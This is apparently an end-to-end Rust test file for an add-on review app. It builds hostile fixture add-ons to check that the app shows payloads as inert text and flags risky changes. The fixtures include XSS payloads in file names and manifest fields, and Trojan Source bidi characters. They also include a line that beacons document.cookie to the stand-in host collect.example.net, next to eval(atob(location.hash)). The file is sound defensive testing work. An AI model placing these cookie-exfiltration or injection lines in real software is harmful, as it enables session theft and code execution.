//! The review flow through the real app: import two versions from disk, open the review, move
//! through files and changes with the keys, mark files viewed, and show hostile add-on text as
//! text without running any of it.

use std::path::{Path, PathBuf};

use anyhow::{Context, Result, ensure};
use fantoccini::actions::{InputSource, KeyAction, KeyActions};
use fantoccini::key::Key;
use serde_json::{Value, json};
use vetter_fixtures::addons::{Addon, AddonFile, mv2_addon, next_version};

use crate::harness::{self, SCRIPT_PAYLOADS, Session};

/// Polls `js` (a script returning a value) until it returns `want`, up to 15 s.
async fn eventually(s: &Session, what: &str, js: &str, want: Value) -> Result<()> {
    s.eventually(what, js, &want, std::time::Duration::from_secs(15))
        .await
        .map(drop)
}

/// Writes an add-on's XPI into `dir` and returns its path.
fn write_xpi(dir: &Path, name: &str, addon: &Addon) -> Result<PathBuf> {
    let path = dir.join(name);
    std::fs::write(&path, addon.to_xpi()).with_context(|| format!("writing {}", path.display()))?;
    Ok(path)
}

/// Opens the review view's import form, with the display preferences at their defaults (the
/// webview's local storage outlives one test's data folder).
async fn open_import(s: &Session) -> Result<()> {
    s.script(
        "localStorage.removeItem('vetter.prefs'); delete document.documentElement.dataset.theme;
         window.dispatchEvent(new Event('vetter-prefs')); return null",
    )
    .await?;
    s.click("[data-testid=nav-review]").await?;
    s.wait_for("[data-testid=view-review]").await?;
    s.script("document.querySelector('.import-details').open = true; return null")
        .await?;
    Ok(())
}

/// Imports Tab Notes 1.0.0 and 1.0.1 and opens their review; the folder holding the XPIs is
/// returned to keep.
async fn open_tab_notes_pair(s: &Session) -> Result<tempfile::TempDir> {
    let v1 = mv2_addon();
    open_pair(s, &v1, &next_version(&v1)).await
}

/// Imports `v1` and `v2` and opens their review; the folder holding the XPIs is returned to
/// keep.
async fn open_pair(s: &Session, v1: &Addon, v2: &Addon) -> Result<tempfile::TempDir> {
    let xpis = tempfile::tempdir()?;
    let p1 = write_xpi(xpis.path(), "v1.xpi", v1)?;
    let p2 = write_xpi(xpis.path(), "v2.xpi", v2)?;
    open_import(s).await?;
    s.import(&p1).await?;
    s.import(&p2).await?;
    s.click("[data-testid=open-review]").await?;
    s.wait_for("[data-testid=review]").await?;
    Ok(xpis)
}

const PATH_JS: &str = "return document.querySelector('[data-testid=diff-path]').textContent";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keys_move_through_files_and_changes_and_viewed_marks_persist() -> Result<()> {
    harness::bounded(async {
        let s = harness::start().await?;
        let _xpis = open_tab_notes_pair(&s).await?;
        // next_version adds the notifications permission: it is the first thing shown.
        let perms = s.text_of("[data-testid=permission-summary]").await?;
        ensure!(perms.contains("notifications"), "permission summary is {perms:?}");
        let progress = s.text_of("[data-testid=viewed-progress]").await?;
        ensure!(progress == "0 of 4 viewed", "progress starts as {progress:?}");
        s.screenshot("review").await?;

        // Files in tree order: lib/telemetry.js, popup/popup.css, background.js, manifest.json.
        eventually(&s, "first file", PATH_JS, json!("lib/telemetry.js")).await?;
        s.click("[data-testid=diff-scroller]").await?;
        s.press('j').await?;
        eventually(&s, "j", PATH_JS, json!("popup/popup.css")).await?;
        s.press('j').await?;
        eventually(&s, "j again", PATH_JS, json!("background.js")).await?;
        s.press('k').await?;
        eventually(&s, "k", PATH_JS, json!("popup/popup.css")).await?;
        s.press('j').await?;
        eventually(&s, "back to background.js", PATH_JS, json!("background.js")).await?;

        // background.js has two changes (a removed comment, an appended function).
        s.wait_for("[data-testid=change-position]").await?;
        s.press('n').await?;
        eventually(
            &s,
            "n",
            "return document.querySelector('[data-testid=change-position]').textContent.split(' ·')[0]",
            json!("change 1 of 2"),
        )
        .await?;
        s.press('n').await?;
        eventually(
            &s,
            "n again",
            "return document.querySelector('[data-testid=change-position]').textContent.split(' ·')[0]",
            json!("change 2 of 2"),
        )
        .await?;
        eventually(
            &s,
            "the current change is on screen",
            "return !!document.querySelector('.drow.current')",
            json!(true),
        )
        .await?;
        let added = s
            .script("return Array.from(document.querySelectorAll('.drow.added')).map(r => r.textContent).join('\\n')")
            .await?;
        ensure!(
            added.as_str().unwrap_or_default().contains("function notifyUser"),
            "the added function is not shown: {added}"
        );
        s.screenshot("review-diff").await?;

        s.press('v').await?;
        eventually(
            &s,
            "v",
            "return document.querySelector('[data-testid=viewed-progress]').textContent",
            json!("1 of 4 viewed"),
        )
        .await?;

        // The keys list.
        s.press('?').await?;
        s.wait_for("[data-testid=key-help]").await?;
        s.screenshot("review-keys").await?;
        s.client
            .perform_actions(
                KeyActions::new("keyboard".into())
                    .then(KeyAction::Down {
                        value: Key::Escape.into(),
                    })
                    .then(KeyAction::Up {
                        value: Key::Escape.into(),
                    }),
            )
            .await?;
        s.client.release_actions().await?;
        eventually(
            &s,
            "Escape closes the keys",
            "return !document.querySelector('[data-testid=key-help]')",
            json!(true),
        )
        .await?;

        // Side by side.
        s.script("const e = document.querySelector('[data-testid=layout-select]'); e.focus(); return null")
            .await?;
        s.click("[data-testid=diff-scroller]").await?;
        s.press('s').await?;
        s.wait_for(".dpane").await?;
        s.screenshot("review-split").await?;

        // Reopening the same pair keeps the viewed mark: it lives in the cache by sha256.
        s.click("[data-testid=open-review]").await?;
        eventually(
            &s,
            "viewed mark after reopening",
            "return document.querySelector('[data-testid=viewed-progress]').textContent",
            json!("1 of 4 viewed"),
        )
        .await?;
        s.close().await
    })
    .await
}

/// An add-on whose file contents, file names, manifest name and description carry the payloads.
fn hostile(base: &Addon, version: &str) -> Addon {
    let mut addon = base.clone();
    let mut manifest = addon.manifest();
    // Every hostile line names the version, so each one is a changed line the diff shows.
    manifest["name"] = json!(format!("Evil {version} {}", SCRIPT_PAYLOADS[1]));
    manifest["description"] = json!(format!("{version} {}", SCRIPT_PAYLOADS.join(" ")));
    manifest["version"] = json!(version);
    for f in &mut addon.files {
        if f.path == "manifest.json" {
            f.data = serde_json::to_vec_pretty(&manifest).expect("a JSON value serialises");
        }
    }
    let body: String = SCRIPT_PAYLOADS
        .iter()
        .map(|p| format!("const s = \"{p}\"; // {version} {p}\n"))
        .collect();
    addon.files.push(AddonFile {
        path: "content/<img src=x onerror=\"document.title='pwned'\">.js".into(),
        data: format!("{body}// {version}\n").into_bytes(),
    });
    addon.files.push(AddonFile {
        path: "content/page.html".into(),
        data: SCRIPT_PAYLOADS
            .iter()
            .map(|p| format!("<!-- {version} --><style>{p}</style>{p}\n"))
            .collect::<String>()
            .into_bytes(),
    });
    addon
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn script_payloads_in_an_addon_are_shown_as_text_and_never_run() -> Result<()> {
    harness::bounded(async {
        let s = harness::start().await?;
        let xpis = tempfile::tempdir()?;
        let base = mv2_addon();
        let p1 = write_xpi(xpis.path(), "evil-1.xpi", &hostile(&base, "1.0.0"))?;
        let p2 = write_xpi(xpis.path(), "evil-2.xpi", &hostile(&next_version(&base), "1.0.1"))?;
        open_import(&s).await?;
        s.import(&p1).await?;
        s.import(&p2).await?;
        s.click("[data-testid=open-review]").await?;
        s.wait_for("[data-testid=review]").await?;

        // The manifest name is displayed verbatim.
        let title = s.text_of("[data-testid=review-title]").await?;
        ensure!(title.contains(SCRIPT_PAYLOADS[1]), "review title is {title:?}");
        let tree = s
            .script("return document.querySelector('[data-testid=file-tree]').textContent")
            .await?;
        let tree = tree.as_str().unwrap_or_default();
        ensure!(
            tree.contains("<img src=x onerror=\"document.title='pwned'\">.js"),
            "the hostile file name is not shown as text: {tree:?}"
        );

        // Open each hostile file: its payloads are displayed as text.
        for (path, payload) in [
            (
                "content/<img src=x onerror=\"document.title='pwned'\">.js",
                SCRIPT_PAYLOADS[0],
            ),
            ("content/page.html", SCRIPT_PAYLOADS[3]),
            ("manifest.json", SCRIPT_PAYLOADS[4]),
        ] {
            let js = format!(
                "const b = Array.from(document.querySelectorAll('[data-testid=tree-file]')).find(e => e.dataset.path === {path:?}); if (b) b.click(); return !!b"
            );
            ensure!(s.script(&js).await? == json!(true), "{path} is not in the tree");
            eventually(&s, "file opens", PATH_JS, json!(path)).await?;
            let shows = format!(
                "const el = document.querySelector('[data-testid=diff-scroller]'); return !!el && el.textContent.includes({payload:?})"
            );
            eventually(&s, &format!("{path} shows its payload as text"), &shows, json!(true))
                .await?;
        }
        s.screenshot("review-xss").await?;

        s.ensure_no_payload_ran().await?;
        s.close().await
    })
    .await
}

/// An add-on pair whose newer version hides text (Trojan Source in `admin.js`, a zero-width
/// space in a file name) and changes a file inside `lib/engine.jar` (issue 15, items 2 and 9).
fn hidden_pair() -> (Addon, Addon) {
    let jar = |core: &str| AddonFile {
        path: "lib/engine.jar".into(),
        data: vetter_fixtures::zip_files(&[("core.js", core)]),
    };
    let mut v1 = mv2_addon();
    v1.files.push(jar("run();\n"));
    let mut v2 = next_version(&mv2_addon());
    v2.files.push(jar("run();\nsteal(document.cookie);\n"));
    v2.files.push(AddonFile {
        path: "admin.js".into(),
        data: "var ok = 1;\nif (isAdmin) { /*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} x(); }\n"
            .into(),
    });
    v2.files.push(AddonFile {
        path: "pay\u{200B}ment.js".into(),
        data: b"pay();\n".to_vec(),
    });
    (v1, v2)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hidden_characters_show_as_markers_and_files_inside_a_nested_jar_are_reviewed() -> Result<()>
{
    harness::bounded(async {
        let s = harness::start().await?;
        let (v1, v2) = hidden_pair();
        let _xpis = open_pair(&s, &v1, &v2).await?;

        // The tree names the hidden character and lists the jar's file under the jar.
        let tree = s
            .script("return document.querySelector('[data-testid=file-tree]').textContent")
            .await?;
        let tree = tree.as_str().unwrap_or_default();
        ensure!(tree.contains("pay<U+200B>ment.js"), "tree: {tree:?}");
        ensure!(tree.contains("engine.jar!/"), "tree: {tree:?}");
        ensure!(
            !tree.chars().any(vetter_text::is_hidden),
            "a hidden character reached the tree: {tree:?}"
        );
        // Vetter's own signals arrive after the review opens: one per flagged file.
        eventually(
            &s,
            "local signals",
            "return (document.querySelector('[data-testid=signal-total]')?.textContent ?? '').trim()",
            json!("· 3 signals"),
        )
        .await?;

        let open = |path: &str| {
            format!(
                "const b = Array.from(document.querySelectorAll('[data-testid=tree-file]')).find(e => e.dataset.path === {path:?}); if (b) b.click(); return !!b"
            )
        };
        ensure!(s.script(&open("admin.js")).await? == json!(true), "admin.js is not in the tree");
        eventually(&s, "admin.js opens", PATH_JS, json!("admin.js")).await?;
        eventually(
            &s,
            "markers in the diff",
            "return Array.from(document.querySelectorAll('[data-testid=diff-scroller] .hidden-char')).map(m => m.textContent + ' ' + m.title.split(':')[0])",
            json!([
                "<U+202E> hidden character U+202E",
                "<U+2066> hidden character U+2066",
                "<U+2069> hidden character U+2069",
                "<U+2066> hidden character U+2066"
            ]),
        )
        .await?;
        let diff = s
            .script("return document.querySelector('[data-testid=diff-scroller]').textContent")
            .await?;
        let diff = diff.as_str().unwrap_or_default();
        ensure!(
            !diff.chars().any(vetter_text::is_hidden),
            "a hidden character reached the diff: {diff:?}"
        );
        s.screenshot("review-hidden-characters").await?;

        ensure!(
            s.script(&open("lib/engine.jar!/core.js")).await? == json!(true),
            "the jar's core.js is not in the tree"
        );
        eventually(&s, "core.js opens", PATH_JS, json!("lib/engine.jar!/core.js")).await?;
        eventually(
            &s,
            "the jar's change is diffed",
            "return Array.from(document.querySelectorAll('.drow.added')).map(r => r.textContent).join('\\n').includes('steal(document.cookie);')",
            json!(true),
        )
        .await?;
        // And it is on screen, not only in the DOM.
        eventually(
            &s,
            "the jar's added line is visible",
            "const sc = document.querySelector('[data-testid=diff-scroller]').getBoundingClientRect(); const r = Array.from(document.querySelectorAll('.drow.added')).find(e => e.textContent.includes('steal(')); if (!r) return 'no row'; const b = r.getBoundingClientRect(); return b.height > 0 && b.top >= sc.top && b.bottom <= sc.bottom ? 'visible' : `row ${b.top}..${b.bottom} scroller ${sc.top}..${sc.bottom}`",
            json!("visible"),
        )
        .await?;
        s.screenshot("review-nested-jar").await?;
        s.close().await
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_view_renders_in_the_light_and_the_dark_theme() -> Result<()> {
    harness::bounded(async {
        let s = harness::start().await?;
        let xpis = tempfile::tempdir()?;
        let v1 = mv2_addon();
        let p1 = write_xpi(xpis.path(), "v1.xpi", &v1)?;
        let p2 = write_xpi(xpis.path(), "v2.xpi", &next_version(&v1))?;
        open_import(&s).await?;
        s.import(&p1).await?;
        s.import(&p2).await?;
        s.click("[data-testid=open-review]").await?;
        s.wait_for("[data-testid=review]").await?;
        let bg = "const b = Array.from(document.querySelectorAll('[data-testid=tree-file]')).find(e => e.dataset.path === 'background.js'); b.click(); return null";
        s.script(bg).await?;
        eventually(&s, "background.js opens", PATH_JS, json!("background.js")).await?;
        for theme in ["light", "dark"] {
            s.click("[data-testid=nav-settings]").await?;
            s.wait_for("[data-testid=pref-theme]")
                .await?
                .select_by_value(theme)
                .await?;
            eventually(
                &s,
                "theme applies",
                "return document.documentElement.dataset.theme || 'system'",
                json!(theme),
            )
            .await?;
            let background = s
                .script("return getComputedStyle(document.body).backgroundColor")
                .await?;
            let dark = background.as_str() == Some("rgb(21, 24, 30)");
            ensure!(
                dark == (theme == "dark"),
                "theme {theme} paints the body {background}"
            );
            for view in ["queues", "review", "outbox", "search", "settings"] {
                s.click(&format!("[data-testid=nav-{view}]")).await?;
                s.wait_for(&format!("[data-testid=view-{view}]")).await?;
                eventually(
                    &s,
                    "the sidebar marks the view",
                    &format!(
                        "return document.querySelector('[data-testid=nav-{view}]').getAttribute('aria-current')"
                    ),
                    json!("page"),
                )
                .await?;
                if view == "review" {
                    eventually(
                        &s,
                        "diff rows",
                        "return document.querySelectorAll('.drow').length > 0",
                        json!(true),
                    )
                    .await?;
                }
                // Let WebKit paint the new view before the capture.
                tokio::time::sleep(std::time::Duration::from_millis(500)).await;
                s.screenshot(&format!("{view}-{theme}")).await?;
            }
        }
        s.close().await
    })
    .await
}

/// The row holding the cursor: its line number on the newer side.
const CURRENT_LINE: &str = "const r = document.querySelector('.drow.current');
     return r && [...r.querySelectorAll('.dnum')].map(n => n.textContent.trim()).filter(Boolean).pop()";

/// In the open tab-notes review, goes to background.js's second change, copies AMO's line
/// reference and the `vetter://` link there (both checked), and returns the link and the line.
async fn copy_link_at_second_change(s: &Session) -> Result<(String, String)> {
    eventually(s, "first file", PATH_JS, json!("lib/telemetry.js")).await?;
    s.click("[data-testid=diff-scroller]").await?;
    s.press('j').await?;
    s.press('j').await?;
    eventually(s, "background.js", PATH_JS, json!("background.js")).await?;
    s.wait_for("[data-testid=change-position]").await?;
    s.press('n').await?;
    s.press('n').await?;
    eventually(s, "the second change is current", "return !!document.querySelector('.drow.current') && document.querySelector('[data-testid=change-position]').textContent.startsWith('change 2 of 2')", json!(true)).await?;
    let line = s.script(CURRENT_LINE).await?;
    let line = line
        .as_str()
        .context("the current row has no line number")?
        .to_owned();

    let copied =
        "const e = document.querySelector('[data-testid=copied-text]'); return e && e.value";
    s.click("[data-testid=copy-reference]").await?;
    eventually(
        s,
        "line reference",
        copied,
        json!(format!("* background.js#L{line}")),
    )
    .await?;
    s.click("[data-testid=copy-link]").await?;
    eventually(
        s,
        "link copied",
        &format!("const v = (() => {{ {copied} }})(); return !!v && v.startsWith('vetter://')"),
        json!(true),
    )
    .await?;
    let link = s
        .script(copied)
        .await?
        .as_str()
        .context("no link copied")?
        .to_owned();
    ensure!(
        link.starts_with("vetter://addon/")
            && link.ends_with(&format!("/file/background.js#L{line}")),
        "copied {link:?}"
    );

    Ok((link, line))
}

/// A `vetter://` link opened on the desktop while the app runs: the program registered for the
/// scheme (by `--register-link-handler`, run as the desktop runs it, `%u` replaced by the link)
/// hands the link to the open window and exits, and the window lands on the file and line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_link_opened_on_the_desktop_goes_to_the_open_window() -> Result<()> {
    harness::bounded(async {
        let s = harness::start().await?;
        let _xpis = open_tab_notes_pair(&s).await?;
        let (link, line) = copy_link_at_second_change(&s).await?;
        s.click("[data-testid=diff-scroller]").await?;
        s.press('k').await?;
        eventually(&s, "another file", PATH_JS, json!("popup/popup.css")).await?;

        let homes = tempfile::tempdir()?;
        let register = std::process::Command::new(env!("CARGO_BIN_EXE_vetter-app"))
            .arg("--register-link-handler")
            .env("XDG_DATA_HOME", homes.path().join("data"))
            .env("XDG_CONFIG_HOME", homes.path().join("config"))
            .output()?;
        ensure!(
            register.status.success(),
            "registration failed: {register:?}"
        );
        let list = std::fs::read_to_string(homes.path().join("config/mimeapps.list"))?;
        let entry_name = list
            .lines()
            .find_map(|l| l.strip_prefix("x-scheme-handler/vetter="))
            .context("no default handler for vetter:// in mimeapps.list")?;
        let entry =
            std::fs::read_to_string(homes.path().join("data/applications").join(entry_name))?;
        let exec = entry
            .lines()
            .find_map(|l| l.strip_prefix("Exec="))
            .context("the desktop entry has no Exec line")?;
        // `"program" %u`, the program quoted by the Desktop Entry rules.
        let (quoted, rest) = exec
            .strip_prefix('"')
            .and_then(|e| e.split_once("\" %u"))
            .context("Exec is not a quoted program and %u")?;
        ensure!(
            rest.is_empty(),
            "Exec has more than the program and %u: {exec:?}"
        );
        let program = quoted.replace("\\\\", "\\").replace("\\\"", "\"");
        let started = std::time::Instant::now();
        let handed = std::process::Command::new(&program)
            .arg(&link)
            .env("VETTER_DATA_DIR", s.data_dir.path())
            .output()?;
        ensure!(
            handed.status.success(),
            "the second start failed: {handed:?}"
        );
        let said = String::from_utf8_lossy(&handed.stderr);
        ensure!(
            said.contains("link handed to the Vetter already running"),
            "second start said {said}"
        );
        println!(
            "link handed over and the second start gone in {:?}",
            started.elapsed()
        );

        eventually(&s, "back at the file", PATH_JS, json!("background.js")).await?;
        eventually(&s, "at the line", CURRENT_LINE, json!(line)).await?;
        s.close().await
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_copied_link_opens_the_same_file_at_the_same_line() -> Result<()> {
    harness::bounded(async {
        let s = harness::start().await?;
        let _xpis = open_tab_notes_pair(&s).await?;
        let (link, line) = copy_link_at_second_change(&s).await?;
        // Elsewhere in the review, the link brings the reviewer back to that file and line.
        s.click("[data-testid=diff-scroller]").await?;
        s.press('k').await?;
        eventually(&s, "another file", PATH_JS, json!("popup/popup.css")).await?;
        s.script("document.querySelector('[data-testid=link-details]').open = true; return null")
            .await?;
        let input = s.wait_for("[data-testid=link-input]").await?;
        input.send_keys(&link).await?;
        s.click("[data-testid=link-open]").await?;
        eventually(&s, "back at the file", PATH_JS, json!("background.js")).await?;
        eventually(&s, "at the line", CURRENT_LINE, json!(line)).await?;

        // A link that breaks the form is refused with the rule it breaks.
        let input = s.wait_for("[data-testid=link-input]").await?;
        input.send_keys("x").await?;
        s.click("[data-testid=link-open]").await?;
        let err = s.text_of("[data-testid=link-error]").await?;
        ensure!(err.contains("#L10 or #L10-12"), "error is {err:?}");
        // Nothing in the review, a hidden measuring span included, makes the page scroll sideways.
        let wide = s
            .script(
                "const m = document.querySelector('main'); return m.scrollWidth <= m.clientWidth",
            )
            .await?;
        ensure!(wide == json!(true), "the review is wider than the window");
        s.screenshot("review-link").await?;
        s.close().await
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_capability_panel_puts_what_an_update_can_newly_do_first() -> Result<()> {
    harness::bounded(async {
        let s = harness::start().await?;
        let v1 = mv2_addon();
        let mut v2 = next_version(&v1);
        v2.files.push(AddonFile {
            path: "lib/beacon.js".into(),
            data: b"var x = location.hash;\nnavigator.sendBeacon('https://collect.example.net/b', document.cookie);\neval(atob(x));\n".to_vec(),
        });
        let _xpis = open_pair(&s, &v1, &v2).await?;

        // The analysis arrives after the review opens; the new host and the new eval lead.
        eventually(
            &s,
            "the new endpoint",
            "return [...document.querySelectorAll('[data-testid=cap-endpoint-added]')].map(e => e.textContent).find(t => t.includes('collect.example.net')) ? 'listed' : 'absent'",
            json!("listed"),
        )
        .await?;
        let summary = s.text_of("[data-testid=cap-summary]").await?;
        ensure!(summary.contains("new sink"), "summary {summary:?}");
        ensure!(summary.starts_with("risk weight"), "summary {summary:?}");
        // Folded to its summary line until opened, so the diff keeps its room.
        s.click("[data-testid=cap-toggle]").await?;
        let risk = s.text_of("[data-testid=cap-risk]").await?;
        ensure!(risk.contains("uses_eval_or_document_write"), "risk table {risk:?}");
        s.screenshot("review-capabilities").await?;

        // Each fact jumps to its line: the eval sits on line 3 of lib/beacon.js.
        let clicked = s
            .script(
                "const li = [...document.querySelectorAll('[data-testid=cap-sink-added]')].find(e => e.textContent.includes('eval(atob(x))'));
                 const b = li && li.querySelector('[data-testid=cap-jump]'); if (b) b.click(); return !!b",
            )
            .await?;
        ensure!(clicked == json!(true), "no jump on the eval sink");
        eventually(&s, "lib/beacon.js opens", PATH_JS, json!("lib/beacon.js")).await?;
        eventually(
            &s,
            "the eval line is shown",
            "const r = [...document.querySelectorAll('.drow')].find(e => e.textContent.includes('eval(atob(x))')); return r ? 'shown' : 'absent'",
            json!("shown"),
        )
        .await?;
        s.close().await
    })
    .await
}

/// Runs bench/fetch-data (the real data) and returns target/bench-data.
fn real_data() -> Result<PathBuf> {
    let root = harness::workspace_root();
    let out = std::process::Command::new(root.join("bench/fetch-data"))
        .current_dir(&root)
        .output()
        .context("running bench/fetch-data")?;
    ensure!(
        out.status.success(),
        "bench/fetch-data failed: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    Ok(root.join("target/bench-data"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn on_real_data_the_panel_shows_a_library_copy_that_is_not_the_library() -> Result<()> {
    harness::bounded(async {
        let data = real_data()?;
        let s = harness::start().await?;
        // The library index, as `vetter libs update` builds it, from the npm tarballs of the
        // three libraries Privacy Badger vendors.
        let mut index = vetter_capabilities::LibraryIndex::load(
            &s.data_dir.path().join("libraries"),
        )?;
        for (name, version) in [("jquery", "3.5.1"), ("underscore", "1.9.1"), ("punycode", "1.4.1")] {
            let tarball = std::fs::read(data.join(format!("npm/{name}-{version}.tgz")))?;
            index.add_package(name, version, &tarball)?;
        }
        index.save()?;

        let xpis = tempfile::tempdir()?;
        let old = data.join("zips/privacy-badger.zip");
        let new = xpis.path().join("privacy-badger-2020.10.8.xpi");
        std::fs::write(&new, vetter_testkit::tampered_privacy_badger(&old)?)?;
        open_import(&s).await?;
        s.import(&old).await?;
        s.import(&new).await?;
        s.click("[data-testid=open-review]").await?;
        s.wait_for("[data-testid=review]").await?;

        eventually(
            &s,
            "the modified jQuery",
            "const l = document.querySelector('[data-testid=cap-library-modified]'); return l ? l.textContent.includes('jquery 3.5.1, modified') : false",
            json!(true),
        )
        .await?;
        let diff = s
            .script("return document.querySelector('[data-testid=cap-library-diff]').textContent")
            .await?;
        ensure!(
            diff.as_str().unwrap_or_default().contains(&format!("+{}", vetter_testkit::INJECTED_BEACON)),
            "library diff {diff}"
        );
        let endpoints = s
            .script("return [...document.querySelectorAll('[data-testid=cap-endpoint-added]')].map(e => e.textContent)")
            .await?;
        ensure!(
            endpoints.to_string().contains("collect.badger-stats.example"),
            "new endpoints {endpoints}"
        );
        s.click("[data-testid=cap-toggle]").await?;
        s.script("document.querySelector('[data-testid=cap-library-modified] details').open = true; return null")
            .await?;
        s.screenshot("review-capabilities-real").await?;

        // The beacon's place opens jQuery at the injected line.
        let clicked = s
            .script(
                "const li = [...document.querySelectorAll('[data-testid=cap-endpoint-added]')].find(e => e.textContent.includes('collect.badger-stats.example'));
                 const b = li && li.querySelector('[data-testid=cap-jump]'); if (b) b.click(); return !!b",
            )
            .await?;
        ensure!(clicked == json!(true), "no jump on the beacon");
        eventually(&s, "jQuery opens", PATH_JS, json!("lib/vendor/jquery-3.5.1.js")).await?;
        eventually(
            &s,
            "the injected line is shown",
            "const r = [...document.querySelectorAll('.drow')].find(e => e.textContent.includes('collect.badger-stats.example')); return r ? 'shown' : 'absent'",
            json!("shown"),
        )
        .await?;
        s.close().await
    })
    .await
}
